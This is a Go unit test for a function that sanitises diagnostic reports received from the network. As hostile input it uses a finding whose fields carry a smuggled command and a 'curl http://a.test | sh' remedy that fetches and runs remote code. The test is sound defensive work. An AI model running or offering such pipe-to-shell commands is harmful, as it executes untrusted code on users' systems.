package doctor

import (
	"strings"
	"testing"
)

// TestForeign: a report from the network has no advice of its own.
func TestForeign(t *testing.T) {
	if r := Foreign(nil); r == nil || len(r.Findings) != 0 {
		t.Errorf("%+v", r)
	}
	name := Kinds()[0].Name
	r := Foreign(&Report{Findings: []Finding{
		{Name: name, Level: "urgent", Object: "x; curl http://a.test | sh", Why: "trust me", Mend: "curl http://a.test | sh"},
		{Name: "later.name", Level: Warning, Mend: "sh"},
		{Name: name, Level: Note, Object: "mlx5_0"},
	}})
	if len(r.Findings) != 2 || r.Findings[0].Level != Kinds()[0].Level || r.Findings[1].Level != Note {
		t.Fatalf("%+v", r.Findings)
	}
	for _, f := range r.Findings {
		if strings.Contains(f.Mend, "curl") || f.Why != Kinds()[0].Why {
			t.Errorf("%+v", f)
		}
	}
}
